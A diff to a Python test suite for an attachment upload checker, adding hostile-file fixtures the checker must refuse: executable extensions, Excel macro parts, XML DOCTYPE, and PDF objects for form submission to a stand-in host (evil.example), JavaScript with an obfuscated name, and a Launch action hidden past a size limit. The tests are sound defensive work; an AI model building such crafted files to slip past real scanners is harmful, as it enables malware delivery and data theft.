@@ -67,6 +67,11 @@ def lying() -> bytes:
     return bytes(content)
 
 
+def _parts(content: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
 def moving(form: str) -> bytes:
     buffer = io.BytesIO()
     frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
@@ -99,6 +104,7 @@ HOSTILE = [
     ("合同\u202efdp.docx", DOCX, "隐藏字符"),
     ("合同\x00.pdf", PDF, "空字符"),
     ("数据.json", b"{}", "不支持"),
+    *((f"合同.{ending}", b"MZ", "程序") for ending in ("bat", "cmd", "com", "scr", "msi", "js", "vbs", "ps1", "jar", "hta")),
     # Contents that are not what the name says
     ("合同.pdf", b"MZ\x90\0" + bytes(100), "程序"),
     ("合同.docx", b"\x7fELF" + bytes(100), "程序"),
@@ -139,6 +145,9 @@ HOSTILE = [
     ("表.xls", making.compound("Workbook", content=making.workbook((0x85, bytes(4) + b"\0\x01\x01\0A"))), "宏表"),
     ("合同.doc", making.compound("WordDocument", "\x01Ole10Native"), "嵌入了其他文件"),
     ("安装.doc", making.compound("SummaryInformation"), "不是 Word"),
+    ("表.xlsx", making.zipped({**_parts(making.xlsx()), "xl/vbaProject.bin": b"x"}), "宏"),
+    ("表.xlsx", making.zipped({**_parts(making.xlsx()), "xl/a.xml": "<!DOCTYPE a><a/>"}), "DOCTYPE"),
+    ("发票.ofd", making.zipped({**_parts(making.ofd()), "Doc_0/a.xml": "<!DOCTYPE a><a/>"}), "DOCTYPE"),
     # Locked
     ("合同.docx", making.compound("EncryptedPackage", "EncryptionInfo"), "密码"),
     ("合同.doc", making.compound("WordDocument", content=ENCRYPTED_DOC), "密码"),
@@ -153,6 +162,14 @@ HOSTILE = [
     ("合同.pdf", making.pdf(packed="3 0 <</Type/Page>>", behind=" 8 0 obj<</Type/ObjStm>>stream"), "打不开"),
     ("合同.pdf", making.pdf("3 0 obj<</Type/EmbeddedFile>>endobj"), "嵌有其他文件"),
     ("合同.pdf", making.pdf("3 0 obj<</XFA 4 0 R>>endobj"), "XFA"),
+    ("合同.pdf", making.pdf("3 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj"), "外发数据"),
+    ("合同.pdf", making.pdf("3 0 obj<</S/ImportData/F(a.fdf)>>endobj"), "外发数据"),
+    ("合同.pdf", making.pdf("3 0 obj<</Subtype/RichMedia>>endobj"), "脚本"),
+    ("合同.pdf", making.pdf("3 0 obj<</S/#4aavaScript/JS(x)>>endobj"), "脚本"),
+    ("合同.pdf", making.pdf(packed="0" * (1 << 20) + "/Launch "), "启动程序"),
+    ("合同.pdf", making.pdf(packed="0" * ((1 << 20) - 4) + "/Launch "), "启动程序"),
+    ("合同.pdf", making.pdf(packed="3 0 <</Type/EmbeddedFile>>"), "嵌有其他文件"),
+    ("合同.pdf", making.pdf(packed="3 0 <</XFA 4 0 R>>"), "XFA"),
     # Two files in one
     ("合同.pdf", PDF + ZIP, "夹带"),
     ("合同.pdf", PDF + b"<script>", "夹带"),
@@ -203,6 +220,10 @@ def test_a_hostile_file_is_refused_and_nothing_stays(attach, name, content, reas
     assert not Attachment.objects.exists()
     assert queries.check_files().strays == ()
     assert not list(store.root().glob("waiting/*"))
+
+
+def test_there_are_a_hundred_and_twenty_hostile_files():
+    assert len(HOSTILE) >= 120
 
 
 def test_a_judge_of_first_bytes_alone_would_let_them_pass(attach, monkeypatch):
